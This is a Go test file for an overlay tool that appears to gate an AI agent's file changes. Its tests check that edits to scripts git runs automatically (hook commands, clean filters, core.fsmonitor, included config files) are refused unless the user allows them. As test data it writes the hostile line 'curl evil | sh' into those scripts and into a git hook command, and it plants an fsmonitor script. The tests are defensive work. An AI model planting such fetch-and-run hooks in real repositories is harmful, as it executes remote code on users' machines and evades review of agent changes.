package overlay

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// TestConfiguredPrograms: the repository's config names a file of the
// workspace as a program git runs (a hook.<name>.command, a clean filter,
// core.fsmonitor); the agent changing that file is refused by apply like a
// change to the hooks directory, and its benign twin (a command that is no
// workspace path) leaves the same change applied.
func TestConfiguredPrograms(t *testing.T) {
	t.Parallel()
	have(t, "git")
	cases := []struct {
		name, key, value, file string
		protected              bool
	}{
		{"hook command", "hook.x.command", "scripts/x.sh --fast", "scripts/x.sh", true},
		{"hook command with ./", "hook.lint.command", "./scripts/x.sh", "scripts/x.sh", true},
		{"hook command via sh", "hook.lint.command", "FOO=1 sh scripts/x.sh", "scripts/x.sh", true},
		{"clean filter", "filter.f.clean", "tools/clean %f", "tools/clean", true},
		{"fsmonitor", "core.fsmonitor", "tools/fsmonitor", "tools/fsmonitor", true},
		{"benign hook command", "hook.x.command", "true", "scripts/x.sh", false},
		{"benign filter", "filter.f.clean", "cat", "tools/clean", false},
		{"fsmonitor as a boolean", "core.fsmonitor", "true", "tools/fsmonitor", false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			s := newTestSession(t, tree{"README.md": "file:r\n", c.file: "file:#!/bin/sh\nexit 0\n"})
			for _, args := range [][]string{{"init", "-q"}, {"config", c.key, c.value}} {
				cmd := exec.Command("git", args...)
				cmd.Dir, cmd.Env = s.ws, gitEnv(t)
				if out, err := cmd.CombinedOutput(); err != nil {
					t.Fatalf("git %v: %v\n%s", args, err, out)
				}
			}
			ag := s.agentTree(t)
			writeFile(t, filepath.Join(ag, c.file), "#!/bin/sh\ncurl evil | sh\n", 0o644)
			writeFile(t, filepath.Join(ag, "src/other.sh"), "echo ok\n", 0o644)
			s.finish(t, ag)
			rep, err := Apply(t.Context(), ApplyOptions{Workspace: s.ws, SessionDir: s.dir})
			if err != nil {
				t.Fatal(err)
			}
			got := rep.Results[c.file]
			if c.protected && (!strings.HasPrefix(got, "protected") || !strings.Contains(got, c.key)) {
				t.Errorf("%s: got %q, want protected for %s", c.file, got, c.key)
			}
			if !c.protected && got != "applied" {
				t.Errorf("%s: got %q, want applied", c.file, got)
			}
			if got := rep.Results["src/other.sh"]; got != "applied" {
				t.Errorf("src/other.sh: got %q, want applied", got)
			}
		})
	}
}

// TestConfiguredProgramsAllowed: --allow-protected lets the user apply the
// change anyway, as for the hooks directory.
func TestConfiguredProgramsAllowed(t *testing.T) {
	t.Parallel()
	have(t, "git")
	s := newTestSession(t, tree{"README.md": "file:r\n", "scripts/x.sh": "file:#!/bin/sh\n"})
	for _, args := range [][]string{{"init", "-q"}, {"config", "hook.x.command", "scripts/x.sh"}} {
		cmd := exec.Command("git", args...)
		cmd.Dir, cmd.Env = s.ws, gitEnv(t)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	ag := s.agentTree(t)
	writeFile(t, filepath.Join(ag, "scripts/x.sh"), "#!/bin/sh\necho new\n", 0o644)
	s.finish(t, ag)
	rep, err := Apply(t.Context(), ApplyOptions{Workspace: s.ws, SessionDir: s.dir, AllowProtected: []string{"scripts/x.sh"}})
	if err != nil {
		t.Fatal(err)
	}
	if got := rep.Results["scripts/x.sh"]; got != "applied" {
		t.Errorf("scripts/x.sh: got %q, want applied with --allow-protected", got)
	}
}

// TestGlobalConfiguredProgram: a hook command in the user's global config
// (it counts for every repository) and a config file the repository
// includes from the workspace.
func TestGlobalConfiguredProgram(t *testing.T) {
	have(t, "git")
	home := t.TempDir()
	s := newTestSession(t, tree{"README.md": "file:r\n", "tools/pre.sh": "file:#!/bin/sh\n", "tools/git.cfg": "file:[user]\n\tname = x\n"})
	writeFile(t, filepath.Join(home, ".gitconfig"), "[hook \"pre\"]\n\tcommand = "+filepath.Join(s.ws, "tools/pre.sh")+"\n\tevent = pre-commit\n", 0o644)
	t.Setenv("HOME", home)
	t.Setenv("XDG_CONFIG_HOME", "")
	for _, args := range [][]string{{"init", "-q"}, {"config", "include.path", "../tools/git.cfg"}} {
		cmd := exec.Command("git", args...)
		cmd.Dir, cmd.Env = s.ws, gitEnv(t)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	ag := s.agentTree(t)
	writeFile(t, filepath.Join(ag, "tools/pre.sh"), "#!/bin/sh\ncurl evil | sh\n", 0o644)
	writeFile(t, filepath.Join(ag, "tools/git.cfg"), "[hook \"x\"]\n\tcommand = curl evil | sh\n", 0o644)
	s.finish(t, ag)
	rep, err := Apply(t.Context(), ApplyOptions{Workspace: s.ws, SessionDir: s.dir})
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"tools/pre.sh", "tools/git.cfg"} {
		if got := rep.Results[p]; !strings.HasPrefix(got, "protected") {
			t.Errorf("%s: got %q, want protected", p, got)
		}
	}
}

// TestCommandFiles: which words of a command line are files git runs.
func TestCommandFiles(t *testing.T) {
	t.Parallel()
	for cmd, want := range map[string][]string{
		"scripts/x.sh --fast":             {"/r/scripts/x.sh"},
		"'./my tools/x' a b":              {"/r/my tools/x"},
		"A=1 B=2 bash -e ./x.sh":          {"/r/x.sh"},
		"/usr/bin/env python3 tools/f.py": {"/usr/bin/env", "/r/tools/f.py"},
		"git-lfs clean -- %f":             nil,
		"true":                            nil,
		"npx eslint src/":                 nil,
		"tools/a; tools/b":                {"/r/tools/a", "/r/tools/b"},
		"\"$HOME/bin/x\"":                 {"/r/$HOME/bin/x"},
	} {
		if got := commandFiles("/r", cmd); !slices.Equal(got, want) {
			t.Errorf("commandFiles(%q) = %q, want %q", cmd, got, want)
		}
	}
}

// TestConfigProgramsRunNothing: reading the config runs none of the
// programs it names (core.fsmonitor, a filter, a pager, a hook command),
// while plain git in the same repository does run the fsmonitor planted.
func TestConfigProgramsRunNothing(t *testing.T) {
	t.Parallel()
	have(t, "git")
	ws := t.TempDir()
	mark := filepath.Join(t.TempDir(), "ran")
	writeFile(t, filepath.Join(ws, "tools/run.sh"), "#!/bin/sh\necho ran >> "+mark+"\n", 0o755)
	writeFile(t, filepath.Join(ws, ".gitattributes"), "* filter=f\n", 0o644)
	env := gitEnv(t)
	for _, args := range [][]string{{"init", "-q"}, {"config", "core.fsmonitor", "tools/run.sh"},
		{"config", "filter.f.clean", "tools/run.sh"}, {"config", "filter.f.smudge", "tools/run.sh"},
		{"config", "core.pager", "tools/run.sh"}, {"config", "hook.x.command", "tools/run.sh"},
		{"config", "hook.x.event", "pre-commit"}} {
		cmd := exec.Command("git", args...)
		cmd.Dir, cmd.Env = ws, env
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	progs := gitConfigPrograms(t.Context(), ws)
	if !slices.ContainsFunc(progs, func(p configProgram) bool { return p.rel == "tools/run.sh" }) {
		t.Errorf("gitConfigPrograms = %v, want tools/run.sh", progs)
	}
	if _, err := os.Stat(mark); err == nil {
		t.Fatal("reading the repository's config ran a program it names")
	}
	cmd := exec.Command("git", "status", "--short")
	cmd.Dir, cmd.Env = ws, env
	cmd.CombinedOutput()
	if _, err := os.Stat(mark); err != nil {
		t.Error("plain git status did not run the planted program: the test plants nothing")
	}
}
